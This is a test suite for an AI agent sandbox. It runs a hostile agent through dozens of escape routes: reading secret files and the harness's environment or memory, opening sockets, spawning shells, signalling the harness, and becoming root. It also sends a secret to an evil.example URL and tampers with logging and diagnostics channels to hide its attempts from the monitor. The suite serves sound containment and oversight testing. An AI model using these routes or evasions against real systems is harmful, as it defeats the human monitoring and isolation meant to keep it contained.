import dgram from "node:dgram";
import { once } from "node:events";
import { existsSync, mkdirSync, mkdtempDisposableSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import net from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { AgentFailure } from "../agent.ts";
import { type Running, running } from "../replay/sealedForTests.ts";
import type { Observation } from "../replay.ts";
import { sandboxAvailable } from "../wall/sandbox.ts";

/** What each route tries, and what must be on record of it: a kind of breach and a part of its target. */
const ROUTES: Readonly<Record<string, readonly [code: string, kind: string, target: string]>> = {
  "write a file": ["fs.writeFileSync(o.outside + '/w', 'x')", "file", "/outside/w"],
  "append to a file": ["fs.appendFileSync(o.secret, 'x')", "file", "/secret"],
  "stream into a file": ["await stream.pipeline(['x'], fs.createWriteStream(o.outside + '/s'))", "file", "/outside/s"],
  "make a folder": ["await fs.promises.mkdir(o.outside + '/m')", "file", "/outside/m"],
  "remove a file": ["fs.unlinkSync(o.secret)", "file", "/secret"],
  "rename a file": ["fs.renameSync(import.meta.filename, o.outside + '/r')", "file", ""],
  "change rights": ["fs.chmodSync(o.secret, 0o777)", "file", "/secret"],
  "link to a file": ["fs.symlinkSync(o.secret, o.outside + '/l')", "file", ""],
  "hard link": ["fs.linkSync(import.meta.filename, o.outside + '/h')", "file", ""],
  "change its own code": ["fs.writeFileSync(import.meta.filename, 'x')", "file", "agent.ts"],
  "read a file": ["leak(fs.readFileSync(o.secret, 'utf8'))", "file read", "/secret"],
  "read by ..": ["leak(fs.readFileSync('../../../../../..' + o.secret, 'utf8'))", "file read", "/secret"],
  "read through /proc": ["leak(fs.readFileSync('/proc/self/root' + o.secret, 'utf8'))", "file read", "secret"],
  "read the harness's environment": ["leak(fs.readFileSync('/proc/' + o.pid + '/environ', 'utf8'))", "file read", "environ"],
  "read the harness's memory": ["fs.openSync('/proc/' + o.pid + '/mem', 'r'); leak('opened')", "file read", "mem"],
  "load variables from a file": ["process.loadEnvFile(o.secret)", "file read", "/secret"],
  TCP: ["await connected(net.connect(o.tcp, '127.0.0.1'))", "network", "127.0.0.1"],
  "Unix socket": ["await connected(net.connect(o.socket))", "network", "socket"],
  "abstract Unix socket": ["await connected(net.connect('\\0' + o.abstract))", "network", "@"],
  TLS: ["await connected(tls.connect(o.tcp, '127.0.0.1'))", "network", "127.0.0.1"],
  HTTP: ["await connected(http.get('http://127.0.0.1:' + o.tcp))", "network", "127.0.0.1"],
  "HTTP/2": ["await connected(http2.connect('http://127.0.0.1:' + o.tcp))", "network", "127.0.0.1"],
  fetch: ["await fetch('http://127.0.0.1:' + o.tcp + '/?secret=1')", "network", "/?secret=1"],
  WebSocket: ["await opened(new WebSocket('ws://127.0.0.1:' + o.tcp))", "network", "127.0.0.1"],
  UDP: ["dgram.createSocket('udp4').send('x', o.udp, '127.0.0.1')", "network", `send`],
  "UDP, bound first": ["await bound(dgram.createSocket('udp4'))", "network", ""],
  "DNS lookup": ["await dns.promises.lookup('secret.example.com')", "network", "secret.example.com"],
  "DNS query": [
    "const r = new dns.promises.Resolver(); r.setServers(['127.0.0.1:' + o.udp]); await r.resolve4('secret.example.com')",
    "network",
    "",
  ],
  listen: ["await bound(net.createServer())", "network", ""],
  "run a shell": ["child.execSync('echo x > ' + o.outside + '/e')", "process", "sh"],
  "run a program": ["child.spawn('/usr/bin/touch', [o.outside + '/t'])", "process", "touch"],
  "fork itself": ["child.fork(import.meta.filename)", "process", "node"],
  "become another program": ["process.execve('/usr/bin/touch', ['touch', o.outside + '/x'])", "process", "touch"],
  cluster: ["cluster.fork()", "process", "node"],
  "kill the harness": ["process.kill(o.pid, 'SIGURG')", "signal", String(process.pid)],
  "kill with its inner name": ["process._kill(o.pid, 23)", "signal", String(process.pid)],
  "make the harness debug": ["process._debugProcess(o.pid)", "signal", String(process.pid)],
  "slow the harness down": ["os.setPriority(o.pid, 19)", "process", String(process.pid)],
  "become root": ["process.setuid(0)", "identity", "setuid 0"],
  "SQLite by import": [
    "const { DatabaseSync } = await import('node:sqlite'); new DatabaseSync(o.outside + '/db').exec('create table a (b)')",
    "file",
    "node:sqlite",
  ],
  "SQLite by another door": [
    "new (process.getBuiltinModule('node:sqlite')).DatabaseSync(o.outside + '/db2').exec('create table a (b)')",
    "file",
    "node:sqlite",
  ],
  "SQLite by require": [
    "new (module.createRequire(import.meta.url)('node:sqlite')).DatabaseSync(o.outside + '/db3').exec('create table a (b)')",
    "file",
    "node:sqlite",
  ],
  "a worker": [
    "new worker.Worker('require(\"fs\").writeFileSync(' + JSON.stringify(o.outside + '/k') + ', \"x\")', { eval: true })",
    "thread",
    "",
  ],
  "a loader of modules": ["module.register('data:text/javascript,', import.meta.url)", "thread", ""],
  inspector: ["(await import('node:inspector')).open(0)", "inspector", ""],
  "inspector session": ["new (await import('node:inspector')).Session().connect()", "inspector", ""],
  WASI: ["new (await import('node:wasi')).WASI({ version: 'preview1', preopens: { '/': o.outside } })", "native code", ""],
  FFI: ["(await import('node:ffi')).dlopen('libc.so.6', {})", "native code", ""],
  addon: ["process.dlopen({ exports: {} }, '/x.node')", "native code", "/x.node"],
  "inner bindings": ["process.binding('fs')", "native code", "fs"],
  report: ["process.report.writeReport(o.outside + '/report.json')", "file", ""],
  "heap snapshot": ["v8.writeHeapSnapshot(o.outside + '/heap')", "file", "heap"],
  "flags of V8": ["v8.setFlagsFromString('--allow-natives-syntax')", "native code", "--allow-natives-syntax"],
};

const AGENT = `import fs from "node:fs"; import net from "node:net"; import tls from "node:tls"; import http from "node:http"; import http2 from "node:http2";
import dgram from "node:dgram"; import dns from "node:dns"; import child from "node:child_process"; import cluster from "node:cluster"; import os from "node:os";
import worker from "node:worker_threads"; import * as module from "node:module"; import stream from "node:stream/promises"; import v8 from "node:v8";
const connected = (it: any) => new Promise((done, failed) => it.on("error", failed).on("connect", done).on("response", done));
const opened = (it: any) => new Promise((done, failed) => { it.onopen = done; it.onerror = failed; });
const bound = (it: any) => new Promise((done, failed) => { it.on("error", failed).on("listening", done); it.bind?.(0) ?? it.listen?.(0); });
const ROUTES: Record<string, (o: any, leak: (text: string) => void) => unknown> = {
${Object.entries(ROUTES)
  .map(([name, [code]]) => `  ${JSON.stringify(name)}: async (o, leak) => { ${code} },`)
  .join("\n")}
};
export default async (seen: { input: any }) => {
  const { route, outside } = seen.input;
  let got = "", said = "through";
  try { await ROUTES[route]!(outside, (text) => { got += text; }); } catch (error: any) { said = String(error?.code ?? error?.cause?.code ?? error?.message ?? error); }
  return { kind: "act", actions: [{ type: "x", params: { route, said, got } }] };
};`;

/** Everything within reach of an agent without a wall. */
async function outsideOf(folder: string) {
  const outside = join(folder, "outside");
  mkdirSync(outside);
  const secret = join(folder, "secret");
  const token = "the decision was: pay";
  writeFileSync(secret, token, { mode: 0o600 });
  const reached: string[] = [];
  const listen = async (at: net.ListenOptions) => {
    const server = net.createServer((socket) => {
      reached.push(JSON.stringify(at));
      socket.on("error", () => undefined).destroy();
    });
    server.listen(at);
    await once(server, "listening");
    return server;
  };
  const socket = join(folder, "socket");
  const abstract = `earnest-hostile-${process.pid}`;
  const servers = [
    await listen({ port: 0, host: "127.0.0.1" }),
    await listen({ path: socket }),
    await listen({ path: `\0${abstract}` }),
  ];
  const udp = dgram.createSocket("udp4", () => void reached.push("udp"));
  udp.bind(0, "127.0.0.1");
  await once(udp, "listening");
  const onSignal = () => void reached.push("signal");
  process.on("SIGURG", onSignal);
  const tcp = ((servers[0] as net.Server).address() as net.AddressInfo).port;
  return {
    given: { outside, secret, socket, abstract, tcp, udp: udp.address().port, pid: process.pid, token },
    /** What can be seen of an effect. */
    effects: () => ({
      reached,
      files: readdirSync(outside),
      secret: existsSync(secret) && readFileSync(secret, "utf8") === token && (statSync(secret).mode & 0o777) === 0o600,
    }),
    [Symbol.asyncDispose]: async () => {
      process.off("SIGURG", onSignal);
      udp.close();
      for (const server of servers) server.close();
    },
  };
}

async function tryAll(agent: Running, given: object): Promise<Map<string, Observation>> {
  const seen = await Promise.all(
    Object.keys(ROUTES).map(async (route) => [route, await agent.see({ route, outside: given }, { id: route })] as const),
  );
  return new Map(seen);
}

const { why } = sandboxAvailable();
const walls = [
  { isolation: "I3", kernel: true, skip: why },
  { isolation: "I2", kernel: false, skip: null },
] as const;

describe.each(walls)("a hostile agent behind $isolation", ({ isolation, kernel, skip }) => {
  test.skipIf(skip !== null)(
    `has no effect outside, by ${Object.keys(ROUTES).length} routes, and each try is on record${skip === null ? "" : ` (skipped: ${skip})`}`,
    async () => {
      using dir = mkdtempDisposableSync(join(tmpdir(), "earnest-"));
      await using outside = await outsideOf(dir.path);
      await using agent = await running({ "agent.ts": AGENT }, { kernel });
      expect(agent.wall.isolation).toBe(isolation);
      const seen = await tryAll(agent, outside.given);
      const missing = Object.entries(ROUTES).flatMap(([route, [, kind, target]]) => {
        const observation = seen.get(route);
        const tried = observation?.breaches ?? [];
        const listed = tried.some((one) => one.kind === kind && one.target.includes(target));
        const kept = JSON.stringify(observation?.kind === "proposed" ? observation.proposal : null).includes('"got":""');
        return listed && kept ? [] : [[route, observation, tried]];
      });
      expect(missing).toEqual([]);
      await new Promise((resolve) => setImmediate(resolve));
      expect(outside.effects()).toEqual({ reached: [], files: [], secret: true });
      expect(agent.notices).toHaveLength(kernel ? 0 : 1);
    },
  );
});

test("the weaker wall says what it is not", async () => {
  await using agent = await running({ "agent.ts": "export default () => ({ kind: 'abstain' });" }, { kernel: false });
  expect(agent.wall).toMatchObject({
    isolation: "I2",
    weaker: "the suite asks for no kernel sandbox",
    residual: expect.stringContaining("no barrier to hostile code"),
  });
  expect(agent.wall.canary.every(({ blocked }) => blocked)).toBe(true);
  expect(agent.notices).toEqual([expect.stringContaining("I2 only: the suite asks for no kernel sandbox")]);
});

describe("games on the way out", () => {
  test("what goes into a tool or to a model stays on record and goes nowhere else", async () => {
    const agentCode = `export default async (seen: any, toolbox: any) => {
      const refused = await toolbox.call("web", { url: "http://evil.example/?" + seen.input.secret });
      const read = await toolbox.read("orders", { q: seen.input.secret }).catch((error: Error) => error.message);
      const asked = await fetch("https://models.example/v1/responses", { method: "POST", body: JSON.stringify({ tools: [{ type: "web_search" }, { type: "mcp", server_url: "http://evil.example" }] }) });
      return { kind: "act", actions: [{ type: "x", params: { refused, read, status: asked.status } }] };
    };`;
    await using agent = await running({ "agent.ts": agentCode });
    const arrived: string[] = [];
    const observation = await agent.see(
      { secret: "s3cret" },
      {
        exchanges:
          ({ told }) =>
          async (request) => {
            arrived.push(request.url);
            for (const { type } of JSON.parse(request.body).tools) told.breach("model-tool", type);
            return { status: 403, headers: {}, body: (async function* () {})() };
          },
      },
    );
    expect(observation).toMatchObject({
      kind: "proposed",
      proposal: { actions: [{ params: { refused: { ok: false }, status: 403 } }] },
      trace: {
        steps: [
          { kind: "call", name: "web", source: "refused" },
          { kind: "read", name: "orders", source: "refused" },
        ],
      },
    });
    expect(arrived).toEqual(["https://models.example/v1/responses"]);
    expect(observation.breaches.map(({ kind, target }) => `${kind} ${target}`)).toEqual([
      "model-tool web_search",
      "model-tool mcp",
    ]);
  });

  test("prototypes turned against the channel hurt nobody but the agent itself", async () => {
    const agentCode = `export default async (seen: any, toolbox: any) => {
      if (seen.input === "play") {
        JSON.stringify = () => '{"t":"ready"}';
        Array.prototype.push = function () { return 0; };
        (Object.prototype as any).then = function (done: any) { done({ kind: "abstain" }); };
        (Object.prototype as any).toJSON = () => ({ kind: "act", actions: [] });
        Promise.prototype.then = function () { return this; };
        Buffer.allocUnsafe = () => Buffer.alloc(0);
      }
      return { kind: "act", actions: [{ type: "x", params: { id: seen.id } }] };
    };`;
    await using agent = await running({ "agent.ts": agentCode }, { processes: 1 }, { timeout: 500 });
    const inputs = ["a", "play", "b", "c"];
    const [a, play, b, c] = await Promise.all(inputs.map((input) => agent.see(input, { id: input })));
    for (const [id, one] of [
      ["a", a],
      ["b", b],
      ["c", c],
    ] as const)
      expect(one).toMatchObject({ kind: "proposed", proposal: { actions: [{ params: { id } }] } });
    expect(["failed", "proposed"]).toContain(play?.kind);
    expect(await agent.see("d", { id: "d" })).toMatchObject({ kind: "proposed" });
  });

  const frame = (messages: string) => {
    const buffer = Buffer.from(`    ${messages}`);
    buffer.writeUInt32BE(buffer.length - 4);
    return buffer.toString("base64");
  };
  const forgeries = [
    ["no message at all", frame("[{}]"), "no message"],
    ["a message without an attempt", frame('[{"t":"call","id":"","n":0,"op":"read","args":[]}]'), "no message"],
    ["a message with more than it may have", frame('[{"t":"ready","__proto__":{"x":1},"y":1}]'), "no message"],
    ["no JSON", frame("[{"), "no message"],
    ["nested without end", frame("[".repeat(100_000)), "no message"],
    ["a frame without end", Buffer.from([255, 255, 255, 255, 1]).toString("base64"), "without end"],
    [
      "a flood of other attempts' answers",
      frame(`[${'{"t":"done","id":"987654"},'.repeat(20_000)}{"t":"done","id":"987654"}]`),
      "flooded",
    ],
  ] as const;
  test("a forger of messages goes down alone, whatever it writes", async () => {
    const agentCode = `import { writeSync } from "node:fs";
      export default async ({ id, input }: any) => {
        if (input.forged !== undefined) {
          const bytes = Buffer.from(input.forged, "base64");
          for (let at = 0; at < bytes.length; ) try { at += writeSync(3, bytes, at); } catch {}
          await new Promise(() => {});
        }
        return { kind: "act", actions: [{ type: "x", params: { id } }] };
      };`;
    await using agent = await running({ "agent.ts": agentCode });
    for (const [name, forged, because] of forgeries) {
      const [honest, forger] = await Promise.all([agent.see({}, { id: "a" }), agent.see({ forged }, { id: "f" })]);
      expect(honest, name).toMatchObject({ kind: "proposed", proposal: { actions: [{ params: { id: "a" } }] } });
      expect(forger, name).toMatchObject({ kind: "failed", code: "crashed", because: expect.stringContaining(because) });
    }
    expect(await agent.see({}, { id: "b" })).toMatchObject({ kind: "proposed" });
  });

  // What one case does that wants to answer for its neighbours: it says it by each of the numbers it has.
  const neighbour = (numbers: string) => `import { writeSync } from "node:fs";
    ${numbers}
    export default async ({ id, input }: any) => {
      // Long enough for all of them to be in hand.
      await new Promise((done) => setTimeout(done, input === "cross" ? 200 : 500));
      if (input !== "cross") return { kind: "act", actions: [{ type: "x", params: { id } }] };
      const text = JSON.stringify([...ids].map((id) => ({ t: "done", id, proposal: { kind: "abstain", because: "said by a neighbour" } })));
      const frame = Buffer.alloc(4 + Buffer.byteLength(text));
      frame.writeUInt32BE(frame.length - 4);
      frame.write(text, 4);
      writeSync(3, frame);
      return { kind: "abstain" };
    };`;
  const asked = ["cross", "a", "b", "c"];
  const answered = ["abstain", "act", "act", "act"];

  test("numbers that one case guesses are of no other", async () => {
    const code = neighbour("const ids = Array.from({ length: 20 }, (_, i) => String(i));");
    await using agent = await running({ "agent.ts": code }, { processes: 1 });
    const seen = await Promise.all(asked.map((id) => agent.see(id, { id })));
    expect(seen.map((one) => (one.kind === "proposed" ? one.proposal.kind : one.code))).toEqual(answered);
  });

  test("numbers that one case overhears are of no case that has a process of its own", async () => {
    const code = neighbour(`const ids = new Set<string>();
      const hear = (part: Buffer) => { for (const [, id] of part.toString("latin1").matchAll(/"id":"([\\w-]{20,})"/g)) ids.add(String(id)); };
      for (const handle of (process as any)._getActiveHandles()) handle.on("data", hear);`);
    await using agent = await running({ "agent.ts": code }, { processes: 2, isolate: "case" });
    const seen = await Promise.all(asked.map((id) => agent.see(id, { id })));
    // Its own number it has heard as well, and may say twice what it likes.
    expect(seen.map((one) => (one.kind === "proposed" ? one.proposal.kind : one.code))).toEqual(answered);
    expect(agent.strays).toEqual([]);
  });

  // What stands between a try and the list of tries, each replaced before the try is made.
  const hidings: Readonly<Record<string, string>> = {
    "the writing to the channel": `
      const write: any = fs.writeSync;
      (fs as any).writeSync = (fd: number, part: any, ...rest: any[]) => fd === 3 ? part.length : write(fd, part, ...rest);
      syncBuiltinESMExports();`,
    "the stream": `
      for (const one of [net.Socket.prototype, stream.Duplex.prototype, stream.Writable.prototype] as any[])
        for (const name of ["write", "_write", "_writev", "_writeGeneric", "end"]) if (name in one) one[name] = () => true;`,
    "what bytes are made with": `
      Buffer.allocUnsafe = Buffer.alloc = Buffer.from = (() => new Uint8Array(0)) as any;
      TextEncoder.prototype.encode = () => new Uint8Array(0) as any;
      Uint8Array.prototype.set = () => {};
      Uint8Array.prototype.subarray = () => new Uint8Array(0) as any;
      try { Object.defineProperty(Object.getPrototypeOf(Uint8Array.prototype), "byteLength", { get: () => 0 }); } catch {}`,
    "what JSON is made of": `
      JSON.stringify = () => "{}";
      (Object.prototype as any).toJSON = function () { return this.t === "breach" ? { t: "pong", n: 1 } : this; };`,
    "sets, maps and texts": `
      Set.prototype.has = () => true;
      Map.prototype.get = () => ({ times: 0 });
      Map.prototype.forEach = () => {};
      String.prototype.slice = String.prototype.trim = String.prototype.replaceAll = () => "";
      Array.prototype.join = () => ""; Array.prototype.filter = () => { throw new Error(); };
      RegExp.prototype.test = () => false;`,
    "turns and stores": `
      (globalThis as any).queueMicrotask = (globalThis as any).setImmediate = () => {};
      AsyncLocalStorage.prototype.getStore = () => { throw new Error(); };`,
    "the ears": `
      for (const name of ["fs", "child", "net"]) {
        const channel: any = diagnostics.channel("node:permission-model:" + name);
        try { channel._subscribers = []; } catch {}
        try { channel._subscribers.length = 0; } catch {}
        try { channel.publish = () => {}; } catch {}
        try { Object.setPrototypeOf(channel, { publish() {}, hasSubscribers: false }); } catch {}
        try { Object.getPrototypeOf(channel).publish = () => {}; } catch {}
      }`,
  };
  test.each(Object.keys(hidings))("a try stays on the list when %s is replaced", async (name) => {
    const code = `import fs from "node:fs"; import net from "node:net"; import stream from "node:stream"; import child from "node:child_process";
      import diagnostics from "node:diagnostics_channel"; import { AsyncLocalStorage } from "node:async_hooks"; import { syncBuiltinESMExports } from "node:module";
      export default async () => {
        ${hidings[name]}
        try { fs.writeFileSync("/outside/w", "x"); } catch {}
        try { child.spawnSync("id"); } catch {}
        try { process.kill(1, 0); } catch {}
        return { kind: "abstain" };
      };`;
    await using agent = await running({ "agent.ts": code }, { processes: 1 }, { timeout: 1_000 });
    const { breaches } = await agent.see("a");
    expect(new Set([...breaches.map(({ kind }) => kind), ...agent.strays.map((stray) => stray.split(" ")[0])])).toEqual(
      new Set(["file", "process", "signal"]),
    );
  });

  test("a flood of calls and notes ends its own attempt only", async () => {
    const agentCode = `export default async (seen: any, toolbox: any) => {
      if (seen.input === "notes") for (;;) await toolbox.note({ kind: "x", answer: "y".repeat(1_000_000) });
      if (seen.input === "calls") for (let i = 0; ; i++) await toolbox.read("x", { i }).catch(() => undefined);
      return { kind: "abstain" };
    };`;
    await using agent = await running({ "agent.ts": agentCode });
    const seen = await Promise.all(["notes", "calls", "none"].map((input) => agent.see(input, { id: input })));
    expect(seen.map((one) => (one.kind === "failed" ? one.code : one.kind))).toEqual(["cut", "cut", "proposed"]);
  });

  test("what ended an attempt outside ends it, whatever the agent makes of it", async () => {
    const agentCode = `export default async () => { try { await fetch("https://models.example/"); } catch {} await new Promise(() => {}); };`;
    await using agent = await running({ "agent.ts": agentCode });
    const exchanges = () => async () => Promise.reject(new AgentFailure("model-error", "it could not be reached"));
    expect(await agent.see("a", { exchanges })).toMatchObject({
      kind: "failed",
      code: "model-error",
      because: "it could not be reached",
    });
  });

  test("a late call to its own model is refused and told, and is no breach", async () => {
    const agentCode = `const late = (url: string) => fetch(url, { method: "POST", body: "{}" }).catch(() => {});
      export default async (seen: any) => { if (seen.input === "a") setTimeout(async () => { await late("https://models.example/v1/chat/completions"); await late("https://models.example/v1/files"); }, 0); return { kind: "abstain" }; };`;
    const models = [{ baseURL: "https://models.example/v1", key: "OPENAI_API_KEY" }];
    await using agent = await running({ "agent.ts": agentCode }, { processes: 1, models });
    await agent.see("a");
    await agent.see("b");
    await expect.poll(() => agent.strays).toEqual(["network https://models.example/v1/files"]);
    expect(agent.notices).toEqual([expect.stringContaining("its model while none of its cases was in hand")]);
  });

  test("tries of no attempt are on record as such: at the start, and after the end", async () => {
    const agentCode = `import net from "node:net";
      net.connect(1, "start.example").on("error", () => {});
      export default { start: () => fetch("https://begin.example/").catch(() => {}), propose: async (seen: any) => { if (seen.input === "a") setTimeout(() => fetch("https://late.example/").catch(() => {}), 0); return { kind: "abstain" }; } };`;
    await using agent = await running({ "agent.ts": agentCode }, { processes: 1 });
    const observation = await agent.see("a");
    await agent.see("b");
    await expect
      .poll(() => agent.strays)
      .toEqual(["network start.example", "network https://begin.example/", expect.stringContaining("late")]);
    expect(observation.breaches).toEqual([]);
  });
});
